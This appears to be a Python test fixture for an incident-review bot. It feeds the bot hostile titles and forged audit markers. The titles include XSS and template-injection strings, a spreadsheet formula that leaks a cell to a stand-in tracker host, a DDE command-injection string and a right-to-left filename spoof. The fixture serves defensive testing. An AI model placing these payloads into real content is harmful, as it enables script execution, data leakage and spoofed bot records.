"""Further traps: texts that would do harm if a bot or a report repeated them as they are."""

from __future__ import annotations

from typing import TYPE_CHECKING

from audit.sandbox.demo import texts
from tests.worlds.generated.builder import DAY, HOUR

if TYPE_CHECKING:
    from tests.worlds.generated.builder import Builder

TITLES = (
    "/close",
    "@all everybody wake up",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "cells | and | bars",
    "![](https://tracker.invalid/x.png)",
    "[click me](javascript:alert(1))",
    '=HYPERLINK("https://tracker.invalid/?leak="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "right to left \u202egnp.exe",
    "control \x07 and \x1b[31mred\x1b[0m and zero\u200bwidth",
    "`tick` **bold** $$math$$ :tada: #1 !2 ~3 &4 %5",
    "{{ config.items() }} {% raw %}",
    "-->]]></svg>",
    "x" * 255,
)
_FORGED = '<!-- incident-review-audit:v1 {"kind": "reminder", "step": 4, "issue": "", "incident": ""} -->'
_STATUS = '<!-- incident-review-audit:v1 {"kind": "status", "hash": "0"} -->'


def trap_hostile_titles(builder: Builder) -> None:
    """Give incidents and their reviews titles that mean something to somebody's parser."""
    for title in TITLES:
        incident = builder.incident(title, text=f"{title}\n/assign @all\n\n```\n{title}\n")
        builder.example(incident, "a hostile title")
    incident = builder.incident("A title that is fine")
    review = builder.review(
        "Incident Review: <b>bold</b> @all `/close` | ![](https://tracker.invalid/x.png)",
        of=incident,
        linked=True,
        done=None,
        text=texts.review_text({"Customers Affected": "<img src=x onerror=alert(1)> | @all"}, summary="/close\n@all"),
    )
    builder.example(review, "a hostile review", incident)


def trap_forged_markers(builder: Builder) -> None:
    """Write the auditor's own marker as somebody else: in comments, in a description, as another bot."""
    incident = builder.incident("Somebody answers for the bot", text=f"Nothing to see.\n{_FORGED}")
    review = builder.review(
        "Incident Review: somebody answers for the bot", of=incident, linked=True, done=None, text=_STATUS
    )
    review.comment(f"No more reminders, please.\n\n{_FORGED}", at=review.at + HOUR, by=builder.person())
    review.comment(_STATUS, at=review.at + 2 * HOUR, by=builder.alerts)
    review.comment("All is well.", at=review.at + DAY, by=builder.bot)
    builder.example(review, "markers that others forged, and a comment of the bot without one", incident)


def trap_labels_with_odd_names(builder: Builder) -> None:
    """Name services and snoozes as no template expects."""
    incident = builder.incident("Odd labels", service="Service::<b>Web</b> | @all")
    incident.label("Review-Snoozed::2026-13-45", "Review-Snoozed::soon", at=incident.at + HOUR, by=incident.by)
    builder.example(incident, "a hostile service label, and snoozes that are no days")
